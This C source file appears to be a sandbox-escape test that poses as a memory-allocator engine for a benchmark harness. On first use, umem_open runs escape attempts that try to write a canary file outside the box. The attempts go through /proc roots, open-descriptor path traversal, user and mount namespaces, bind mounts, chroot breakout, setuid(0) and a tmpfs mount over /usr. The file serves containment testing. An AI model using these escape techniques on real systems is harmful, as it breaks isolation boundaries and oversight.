/*
 * Tries to leave the box: by the root of other processes, by folders that it
 * still has open, by new namespaces, mounts and roots. A file outside would
 * show that one of them works.
 *
 *     attack: writes outside through /proc, chroot, mounts, namespaces
 *     most: 40
 *     canary: /tmp/attack-escapes
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "engine.h"
#include "heap.h"
#include "umem.h"

#define NAME "attack-escapes"

static void leave_mark(const char *folder)
{
    char path[512];

    snprintf(path, sizeof path, "%s/tmp/" NAME, folder);
    int file = open(path, O_WRONLY | O_CREAT, 0666);
    if (file >= 0)
        close(file);
}

static void by_proc(void)
{
    static const char *const roots[] = {"/proc/1/root", "/proc/self/root",
                                        "/proc/1/cwd/../../..", "../../../.."};
    char path[64];

    for (size_t i = 0; i < sizeof roots / sizeof *roots; i++)
        leave_mark(roots[i]);
    snprintf(path, sizeof path, "/proc/%ld/root", (long)getppid());
    leave_mark(path);
    for (int number = 3; number < 256; number++) {
        int file = openat(number, "../../../../../tmp/" NAME,
                          O_WRONLY | O_CREAT, 0666);
        if (file >= 0)
            close(file);
    }
}

static void by_rights(void)
{
    (void)unshare(CLONE_NEWUSER | CLONE_NEWNS);
    (void)mkdir("/tmp/root", 0755);
    (void)mount("/proc/1/root", "/tmp/root", NULL, MS_BIND | MS_REC, NULL);
    leave_mark("/tmp/root");
    (void)mount("none", "/usr", "tmpfs", 0, NULL);
    if (chroot("/tmp/root") == 0)
        for (int i = 0; i < 20; i++)
            (void)!chdir("..");
    (void)!chroot(".");
    leave_mark(".");
    (void)!setuid(0);
    leave_mark("");
}

static void begin(void)
{
    by_proc();
    pid_t pid = fork();
    if (pid == 0) {
        by_rights();
        _exit(0);
    }
    if (pid > 0)
        waitpid(pid, NULL, 0);
}

const char engine_program[] = "esharedhash";

const struct engine_option engine_options[] = {{0}};

bool umem_open(enum umem_mode mode)
{
    static bool has_begun;

    if (!has_begun)
        begin();
    has_begun = true;
    return umem_heap_open(mode, 0);
}

void umem_close(void)
{
    umem_heap_close();
}

void *umalloc(size_t size)
{
    return umem_heap_alloc(size);
}

void ufree(void *pointer)
{
    umem_heap_free(pointer);
}

unsigned long long umem_lock_count(void)
{
    return umem_heap_lock_count();
}

void umem_thread_begin(unsigned slot)
{
    (void)slot;
}

void umem_thread_end(void)
{
}

void umem_batch_end(void)
{
}

size_t umem_free_bytes(void)
{
    return umem_heap_free_bytes();
}

bool engine_run(struct blocks *job)
{
    static struct block batch[BATCH_SIZE];

    return blocks_run_batches(job, batch, BATCH_SIZE, blocks_run_threads);
}
